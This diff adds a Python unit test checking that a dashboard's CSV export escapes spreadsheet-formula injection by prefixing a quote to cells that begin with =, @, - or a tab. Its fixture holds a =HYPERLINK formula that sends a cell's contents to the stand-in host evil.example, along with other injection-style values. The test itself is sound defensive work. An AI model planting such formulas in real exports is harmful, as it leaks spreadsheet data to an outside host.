@@ -32,3 +32,28 @@ def test_approvals_page_lists_every_judged_guardrail_by_name() -> None:
     assert rows[2]["note"].startswith("needs 30") and rows[1]["limit"] == 0.1
     assert guardrail_rows(monitor) == rows[:1]
     assert guardrail_rows({"quality": {}}) == []
+
+
+def test_the_csv_export_keeps_a_formula_a_text() -> None:
+    """An audit row whose text starts like a spreadsheet formula (an anonymous sign-in attempt named
+    `=HYPERLINK(...)`, review s46 A8) is exported with a leading quote; numbers and plain text as they are."""
+    import csv
+    import io
+
+    import pandas as pd
+
+    df = pd.DataFrame(
+        {
+            "id": [1, 2],
+            "entity_id": ['=HYPERLINK("https://evil.example/?x="&B2,"details")', "alice"],
+            "details": ["@SUM(A1)", '{"via": "cli"}'],
+            "reason": ["-2+3", "\tcmd"],
+        }
+    )
+    rows = list(csv.DictReader(io.StringIO(fmt.spreadsheet_csv(df).decode("utf-8"))))
+    link = '=HYPERLINK("https://evil.example/?x="&B2,"details")'
+    assert [r["entity_id"] for r in rows] == [f"'{link}", "alice"]
+    assert [r["details"] for r in rows] == ["'@SUM(A1)", '{"via": "cli"}']
+    assert [r["reason"] for r in rows] == ["'-2+3", "'\tcmd"]
+    assert [r["id"] for r in rows] == ["1", "2"]
+    assert df["entity_id"][0].startswith("=")  # the page's own table is unchanged
